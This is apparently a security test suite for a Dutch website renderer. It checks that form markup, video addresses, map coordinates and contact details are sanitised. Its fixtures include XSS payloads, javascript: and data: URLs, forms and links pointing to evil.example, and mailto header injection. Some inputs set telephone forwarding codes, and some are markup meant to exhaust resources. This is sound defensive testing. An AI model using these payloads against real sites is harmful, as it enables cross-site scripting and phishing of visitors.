import { renderToString } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { PageRenderer } from '#templates/PageRenderer.tsx';
import { knownElementsOf } from '#templates/plan/areas/walk.ts';
import { type PlanResult, plan } from '#templates/plan/plan.ts';
import { RendererProvider } from '#templates/renderer/RendererProvider.tsx';
import { storyRenderer } from '#templates/stories/storyPlan.tsx';
import { contextOf } from './answers.ts';
import { createGuard } from './guard.ts';
import { read } from './reading.ts';
import { preloadRegistry, renderPlan } from './renderPlan.tsx';

/*
 * Attacks on the fields that mean more than words: markup of forms, addresses of videos, places on a map, ways to reach
 * somebody.
 */

beforeAll(preloadRegistry);

function pageWith(element: object): object {
  return {
    ...{ type: 'page', title: 'Een pagina', url: '/nl/groenkennisnet/x', language: 'nl_NL' },
    contents: [{ area: 'main', elements: [{ identifier: 'element_1', ...element }] }],
  };
}

function planPage(raw: unknown): PlanResult {
  return plan(raw, contextOf(raw));
}

/** The page of an element, after its guard had nothing to say. */
function safely(element: object): PlanResult & { readonly html: string } {
  const raw = pageWith(element);
  const guard = createGuard(raw);
  expect(guard(raw)).toEqual([]);
  expect(guard(raw, 'preview')).toEqual([]);
  const planned = planPage(raw);
  return { ...planned, html: renderPlan(planned.plan) };
}

const attributesOf = (html: string, ...names: string[]) =>
  read(html)
    .all(...names)
    .flatMap(({ attribs }) => Object.values(attribs));

describe('the markup of a form', () => {
  const form = (html: string) => ({ type: 'form', title: 'Stel je vraag', html });
  const field = '<label>Naam <input name="naam"></label>';

  it.each([
    ['leads elsewhere', `<form action="https://evil.example/" method="post">${field}</form>`],
    ['runs a script as its address', `<form action="javascript:attacked()">${field}</form>`],
    ['sends by address', `<form action="//evil.example" method="get">${field}</form>`],
    ['asks for a password', `<form>${field}<label>Wachtwoord <input type="password" name="p"></label></form>`],
    [
      'has a button that leads elsewhere',
      `<form>${field}<button formaction="https://evil.example">Verstuur</button></form>`,
    ],
    [
      'has a picture for a button',
      `<form>${field}<input type="image" src="https://evil.example/x" formaction="//evil.example"></form>`,
    ],
    ['belongs to a form elsewhere', `<form>${field}<input name="x" form="portal"></form>`],
    ['has handlers', `<form onsubmit="attacked()"><input name="a" onfocus="attacked()" autofocus></form>`],
    ['stands in another', `<form><form action="//evil.example">${field}</form>${field}</form>`],
    ['is not closed', `<form>${field}<form>${field}`],
    ['holds a script', `<form>${field}<script>attacked()</script><style>*{display:none}</style></form>`],
    [
      'shows other pages',
      `<form>${field}<iframe src="https://evil.example"></iframe><object data="x"></object></form>`,
    ],
    [
      'names our own fields',
      '<form><input name="_page" value="//evil.example"><input name="_element"><input name="_website" value="x"><input name="_button" value="x"></form>',
    ],
    ['hides our own fields', '<form><input type="hidden" name="_page" value="//evil.example"></form>'],
    ['closes the page', `</form></div></main><script>attacked()</script>${field}`],
    ['draws', `<form>${field}<svg onload=attacked()></svg><math href="javascript:attacked()">x</math></form>`],
  ])('is harmless when it %s', (_, html) => {
    const page = safely(form(html));
    expect(page.html).not.toContain('evil.example');
    expect(read(page.html).all('form').length).toBeLessThan(2);
  });

  it('gives labels, choices and values as words', () => {
    const evil = '&lt;img src=x onerror=attacked()&gt;';
    const { html } = safely(
      form(
        `<form><label for="a"><b>${evil}</b></label><input id="a" name="a" value="${evil}" placeholder="${evil}" autocomplete="${evil}">
        <select name="s"><option value="${evil}">${evil}</option></select><textarea name="t">${evil}</textarea>
        <fieldset><legend>${evil}</legend><input type="radio" name="r" value="${evil}"></fieldset><button>${evil}</button></form>`,
      ),
    );
    const page = read(html);
    expect(page.pictures).toEqual([]);
    expect(page.text.split('<img src=x onerror=attacked()>').length).toBeGreaterThan(4);
  });

  it.each([
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'then',
    'action',
    'submit',
    'length',
    'nodeName',
    'elements',
  ])('may name a field %s, before and after it was posted', (name) => {
    const raw = pageWith(
      form(
        `<form><label>Naam <input name="${name}"></label><label><input type="checkbox" name="${name}">Ja</label></form>`,
      ),
    );
    const { plan: planned } = planPage(raw);
    const renderer = storyRenderer('nl');
    const [element] = planned.areas.flatMap(({ elements }) => elements);
    const outcome = { state: 'rejected', faults: {}, values: {} } as const;
    const posted = { element: element?.id ?? '', outcome };
    const html = renderToString(
      <RendererProvider value={{ ...renderer, forms: { ...renderer.forms, posted } }}>
        <PageRenderer plan={planned} />
      </RendererProvider>,
    );
    expect(createGuard(raw)(raw)).toEqual([]);
    expect(
      read(html)
        .all('input')
        .map(({ attribs }) => attribs.name),
    ).toContain(`field:${name}`);
    // Nobody was told of a fault: what all objects have is none.
    expect(html).not.toMatch(/native code|fault\./);
    expect(attributesOf(html, 'input', 'textarea')).not.toContain('true');
  });

  it('cannot exhaust anything: ten thousand fields, nesting without an end, choices without an end', () => {
    const many = 10_000;
    const inputs = Array.from({ length: many }, (_, index) => `<input name="veld${index}">`).join('');
    const options = '<option>keuze</option>'.repeat(many);
    const markups = [
      `<form>${inputs}</form>`,
      `<form><select name="s">${options}</select></form>`,
      `<form>${'<input type="radio" name="r" value="1">'.repeat(many)}</form>`,
      `${'<form>'.repeat(many)}${field}`,
      `<form>${'<fieldset><legend>x</legend>'.repeat(many)}${field}</form>`,
      `<form>${'<label>'.repeat(many)}${field}</form>`,
      `<form>${'<input type="hidden" name="x" value="y">'.repeat(many)}${field}</form>`,
    ];
    for (const html of markups) expect(safely(form(html)).html.length).toBeLessThan(200_000);
  });
});

describe('the address of a video', () => {
  const video = (url: string) => ({ type: 'video', title: 'Een film', url });
  const mediaOf = ({ plan: planned }: PlanResult) =>
    knownElementsOf(planned.areas).map((element) => (element.type === 'video' ? element.data.media : undefined))[0];

  it.each([
    'https://youtube.com.evil.example/watch?v=aqz-KE-bpKQ',
    'https://evil.example/youtube.com/watch?v=aqz-KE-bpKQ',
    'https://www.youtube.com@evil.example/watch?v=aqz-KE-bpKQ',
    'https://notyoutube.com/watch?v=aqz-KE-bpKQ',
    'https://evil.example/?https://youtu.be/aqz-KE-bpKQ',
    'https://evil.example#https://www.youtube.com/embed/aqz-KE-bpKQ',
    'https://youtu.be.evil.example/aqz-KE-bpKQ',
    'https://player.vimeo.com.evil.example/video/76979871',
    'https://vimeo.com.evil.example/76979871',
    'https://www.youtube.com/watch?v="><script>attacked()</script>',
    'https://www.youtube.com/embed/../redirect?q=https://evil.example',
    'https://www.youtube.com/watch?v=../../evil',
    'https://vimeo.com/76979871"onload="attacked()',
    'javascript://www.youtube.com/watch?v=aqz-KE-bpKQ%0aattacked()',
    'javascript:attacked()//youtube.com/watch?v=aqz-KE-bpKQ',
    'data:video/mp4;base64,AAAA',
    'data:text/html,<script>attacked()</script>//film.mp4',
    'blob:https://evil.example/film.mp4',
    'file:///etc/film.mp4',
    '//evil.example/film.mp4',
    '/\\evil.example/film.mp4',
  ])('plays nothing of a provider and runs nothing: %s', (url) => {
    const page = safely(video(url));
    const media = mediaOf(page);
    const isProvider = media?.kind === 'video' && media.video.kind !== 'file';
    expect(isProvider && !/^https:\/\/vimeo\.com\/76979871/.test(url)).toBe(false);
    expect(read(page.html).all('video', 'source', 'iframe')).toEqual([]);
  });

  it.each(['https://www.youtube.com/watch?v=aqz-KE-bpKQ', 'https://vimeo.com/76979871'])(
    'asks nothing of %s before the visitor agrees',
    (url) => {
      const { html } = safely(video(url));
      expect(read(html).all('iframe', 'video', 'script', 'link')).toEqual([]);
      const sources = read(html)
        .all('img', 'source')
        .map(({ attribs }) => `${attribs.src} ${attribs.srcset}`);
      expect(sources.join(' ')).not.toMatch(/youtube|ytimg|vimeo/);
    },
  );

  it('behind a header is a file or nothing', () => {
    for (const address of [
      'javascript:attacked()//x.mp4',
      'https://youtube.com.evil.example/',
      'data:video/mp4,x.mp4',
    ]) {
      const raw = {
        ...pageWith({ type: 'text', html: '<p>x</p>' }),
        metadata: { video_header: address, video_header_mobile: address },
      };
      expect(planPage(raw).plan.details.video).toBeUndefined();
      expect(createGuard(raw)(raw)).toEqual([]);
    }
  });
});

describe('places on a map', () => {
  const map = (lat: unknown, lon: unknown) => ({
    type: 'map',
    title: 'Plekken',
    center: { lat, lon },
    zoom: lat,
    items: [
      { title: 'Vreemd', lat, lon },
      { title: 'Gewoon', lat: 52.1, lon: 5.2 },
    ],
  });

  it.each([
    ['words', '"NaN"', '"Infinity"'],
    ['numbers in words', '"52.1"', '"5.2"'],
    ['beyond all numbers', '1e309', '-1e309'],
    ['as large as numbers get', '1e308', '-1e308'],
    ['off the globe', '91', '181'],
    ['far off the globe', '-90000', '1e12'],
    ['a script', '"<script>attacked()</script>"', '"5.2) rotate(1"'],
    ['nothing at all', 'null', '{}'],
  ])('are drawn where they are, or not at all: %s', (_, lat, lon) => {
    const { html } = safely(
      JSON.parse(JSON.stringify(map('LAT', 'LON')).replaceAll('"LAT"', lat).replaceAll('"LON"', lon)),
    );
    expect(read(html).text).toContain('Gewoon');
    expect(html).not.toMatch(/NaN|Infinity|undefined|attacked/);
    const numbers =
      attributesOf(html, 'svg', 'circle', 'path', 'g', 'use', 'a', 'li')
        .join(' ')
        .match(/-?\d+(\.\d+)?(e[+-]?\d+)?/g) ?? [];
    for (const number of numbers) expect(Math.abs(Number(number))).toBeLessThan(100_000);
  });
});

describe('ways to reach somebody', () => {
  const emails = [
    'a@example.org?bcc=b@evil.example',
    'mailto:a@example.org?subject=x&body=y',
    'a@example.org&cc=b@evil.example',
    'a@example.org,b@evil.example',
    'a@example.org;b@evil.example',
    'a@example.org%0Abcc:b@evil.example',
    'a@example.org\nBcc: b@evil.example',
    '"<script>attacked()</script>"@example.org',
    'javascript:attacked()',
    'javascript:attacked()//@example.org',
    '<img src=x onerror=attacked()>@example.org',
    'https://evil.example/@example.org',
  ];
  const phones = [
    'javascript:attacked()',
    'tel:0612345678?x=y',
    '0612345678;phone-context=evil.example',
    '*#06#',
    '**21*0900123456#',
    '06 12345678,,,0900',
    'sip:06@evil.example',
    '<img src=x onerror=attacked()>',
    '06%0a12',
  ];
  const urls = [
    'javascript:attacked()',
    'data:text/html,x',
    '//evil.example',
    '/\\evil.example',
    'vbscript:x',
    'https:evil.example',
  ];

  /** Somebody wherever people are shown. */
  const people = (fields: object): readonly object[] => [
    pageWith({ type: 'contact', name: 'Anna', ...fields }),
    pageWith({ type: 'team', members: [{ name: 'Anna', ...fields }] }),
    {
      ...pageWith({ type: 'text', html: '<p>x</p>' }),
      type: 'mediaitem',
      metadata: { contenttype: 'wmammodularcontent_gkn_person', item_metadata: { role: 'Lector', ...fields } },
    },
  ];

  it.each([
    ...emails.map((email) => ({ email })),
    ...phones.map((phone) => ({ phone })),
    ...urls.map((url) => ({ url })),
  ])('are an address, a number and a page, or nothing: %j', (fields) => {
    for (const raw of people(fields)) {
      expect(createGuard(raw)(raw)).toEqual([]);
      const { links } = read(renderPlan(planPage(raw).plan));
      for (const { href } of links.filter(({ href }) => /^(mailto|tel):/i.test(href))) {
        // A mail that shares the page has no addressee.
        expect(href).toMatch(/^(mailto:([^?&,;%\s<>"]+@[^?&,;%\s<>"@]+$|\?)|tel:\+?\d+$)/);
      }
    }
  });

  it('are shown where they are in order', () => {
    for (const raw of people({ email: 'anna@example.org', phone: '+31 (0)6 1234 5678' })) {
      const { links } = read(renderPlan(planPage(raw).plan));
      expect(links.map(({ href }) => href)).toContain('mailto:anna@example.org');
      expect(links.some(({ href }) => /^tel:\+31\d+$/.test(href))).toBe(true);
    }
  });
});
